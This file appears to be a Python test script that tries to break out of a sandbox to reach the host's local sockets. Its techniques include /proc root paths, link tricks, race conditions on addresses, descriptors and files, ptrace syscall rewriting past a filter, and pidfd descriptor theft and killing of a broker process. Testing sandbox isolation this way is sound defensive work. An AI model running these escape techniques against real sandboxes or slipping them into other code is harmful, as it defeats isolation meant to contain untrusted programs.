"""Attempts to reach local sockets of the machine from inside a sandbox, run there as a program.

`socket_attacks.py ADDRESS…` tries every address, a leading `@` is an abstract one. It says nothing
of connections, for its user watches the listeners; the last line is `done`.
"""

from __future__ import annotations

import ctypes
import os
import signal
import socket
import struct
import sys
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from pathlib import Path

LIBC = ctypes.CDLL(None, use_errno=True)
ROUNDS = 150
"""Attempts of each race; a broker that looked twice was reached within 20."""
_GETPID, _CONNECT = 39, 42
"""Numbers of x86_64, as are the registers below."""
_TRACE_ME, _POKE, _PEEK, _TO_CALL = 0, 6, 3, 24
_CALL_REGISTER = 8 * 15
_PEER, _TAKE_DESCRIPTOR, _SEND_SIGNAL = 77, 438, 424
"""SO_PEERPIDFD, pidfd_getfd(2) and pidfd_send_signal(2)."""


def main(addresses: list[str]) -> None:
    """Make every attempt."""
    names = [one.replace("@", "\0") for one in addresses]
    for name in names:
        plainly(name)
    for name in (one for one in names if one.startswith("/")):
        linked(name)
        if Path(name).parent == Path.cwd():
            while_the_address_changes(name)
            while_the_socket_changes(name)
            while_the_file_changes(name)
        if os.uname().machine == "x86_64":
            traced(name)
    for _ in range(2):  # the second time it still works
        at_the_broker()
    sys.stdout.write("done\n")


def plainly(name: str) -> None:
    for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET, socket.SOCK_DGRAM):
        with suppress(OSError), socket.socket(socket.AF_UNIX, kind) as sock:
            sock.connect(name)
            sock.send(b"x")
    with suppress(OSError):
        socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendto(b"x", name)
    for family, kind in (
        (socket.AF_INET, socket.SOCK_STREAM),
        (socket.AF_NETLINK, socket.SOCK_RAW),
    ):
        with socket.socket(family, kind) as sock:
            connect(sock.fileno(), packed(name))


def linked(name: str) -> None:
    number, path = os.getpid(), Path(name)
    ways = [f"/proc/{which}/root{name}" for which in ("self", "thread-self", number)]
    ways += [f"{path.parent}/../{path.parent.name}/{path.name}", f"//{name}"]
    for make in (os.link, os.symlink):
        way = f"{make.__name__}-{number}"
        with suppress(OSError):
            make(name, way)
            ways.append(way)
    for way in ways:
        plainly(way)


def while_the_address_changes(name: str) -> None:
    with own() as mine:
        size = len(packed(name)) + 20
        buffer = ctypes.create_string_buffer(size)
        values = [packed(value).ljust(size, b"\0") for value in (mine, name)]

        def change(turn: int) -> None:
            ctypes.memmove(buffer, values[turn % 2], size)

        def attempt() -> None:
            with socket.socket(socket.AF_UNIX) as sock:
                LIBC.connect(sock.fileno(), buffer, size)

        race(attempt, change)


def while_the_socket_changes(name: str) -> None:
    """One is of the machine's network in no case; a check of the other would not hold for it."""
    with own() as mine, socket.socket(socket.AF_UNIX) as first:
        number = os.dup(first.fileno())
        network = socket.socket()

        def change(turn: int) -> None:
            with socket.socket(socket.AF_UNIX) as fresh:
                os.dup2((network, fresh)[turn % 2].fileno(), number)

        def attempt() -> None:
            connect(number, packed(name))
            connect(number, packed(mine))

        race(attempt, change)
        os.close(number)


def while_the_file_changes(name: str) -> None:
    with own() as mine:
        way = str(Path("way").absolute())

        def change(turn: int) -> None:
            with suppress(OSError):
                os.link((mine, name)[turn % 2], "next")
                Path("next").replace(way)

        def attempt() -> None:
            with socket.socket(socket.AF_UNIX) as sock:
                connect(sock.fileno(), packed(way))

        race(attempt, change)


def traced(name: str) -> None:
    """Make another call one to connect(2), when the filter might have seen it already."""
    sock = socket.socket(socket.AF_UNIX)
    address = packed(name)
    child = os.fork()
    if child == 0:
        LIBC.ptrace(_TRACE_ME, 0, None, None)
        os.kill(os.getpid(), signal.SIGSTOP)
        LIBC.syscall(_GETPID, sock.fileno(), address, len(address))
        os._exit(0)
    peek = LIBC.ptrace
    peek.restype = ctypes.c_long
    while os.WIFSTOPPED(os.waitpid(child, 0)[1]):
        if peek(_PEEK, child, ctypes.c_void_p(_CALL_REGISTER), None) == _GETPID:
            peek(_POKE, child, ctypes.c_void_p(_CALL_REGISTER), ctypes.c_void_p(_CONNECT))
        peek(_TO_CALL, child, None, None)
    sock.close()


def at_the_broker() -> None:
    """Reach for the other end of a connection, which is the process that made it."""
    with socket.socket(socket.AF_UNIX) as listener, socket.socket(socket.AF_UNIX) as client:
        listener.bind("")
        listener.listen()
        client.connect(listener.getsockname())
        peer, _ = listener.accept()
        with peer, suppress(OSError):
            broker = peer.getsockopt(socket.SOL_SOCKET, _PEER)
            for number in range(30):
                if LIBC.syscall(_TAKE_DESCRIPTOR, broker, number, 0) >= 0:
                    sys.stdout.write("took a descriptor of the broker\n")
            LIBC.syscall(_SEND_SIGNAL, broker, signal.SIGKILL, None, 0)


@contextmanager
def own() -> Iterator[str]:
    """Yield the path of a socket of this program, which takes every connection."""
    path = f"own-{os.getpid()}"
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(path)
        listener.listen(4 * ROUNDS)
        yield path
    Path(path).unlink()


def race(attempt: Callable[[], None], change: Callable[[int], None]) -> None:
    over = threading.Event()

    def changing() -> None:
        turn = 0
        while not over.is_set():
            turn += 1
            change(turn)

    other = threading.Thread(target=changing)
    other.start()
    for _ in range(ROUNDS):
        attempt()
    over.set()
    other.join()


def packed(name: str) -> bytes:
    return struct.pack("=H", socket.AF_UNIX) + os.fsencode(name) + b"\0"


def connect(fd: int, address: bytes) -> int:
    return int(LIBC.connect(fd, address, len(address)))


if __name__ == "__main__":
    main(sys.argv[1:])
